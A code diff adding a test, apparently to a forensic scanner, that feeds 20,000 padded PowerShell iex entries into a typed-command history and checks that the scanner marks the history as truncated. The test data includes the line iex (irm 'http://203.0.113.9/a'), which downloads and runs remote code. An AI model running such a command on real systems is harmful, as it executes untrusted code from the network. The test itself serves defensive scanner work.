@@ -243,6 +243,19 @@ describe('transcripts', () => {
   }, 60_000);
 });
 
+test('a history of bombs is read in part, and that is told', async () => {
+  const bombs = Array.from(
+    { length: 20_000 },
+    (_, index) => `$a='${'x'.repeat(60)}'*9; iex ($a+[char]${index}+"${'`a'.repeat(30)}")`,
+  );
+  const result = await scanSpec(typed(...bombs, "iex (irm 'http://203.0.113.9/a')"));
+  expect(
+    result.sources.some(
+      ({ artifact, status }) => artifact === 'windows.typed-commands' && status === 'truncated',
+    ),
+  ).toBe(true);
+}, 60_000);
+
 const block = (
   time: string,
   text: string,
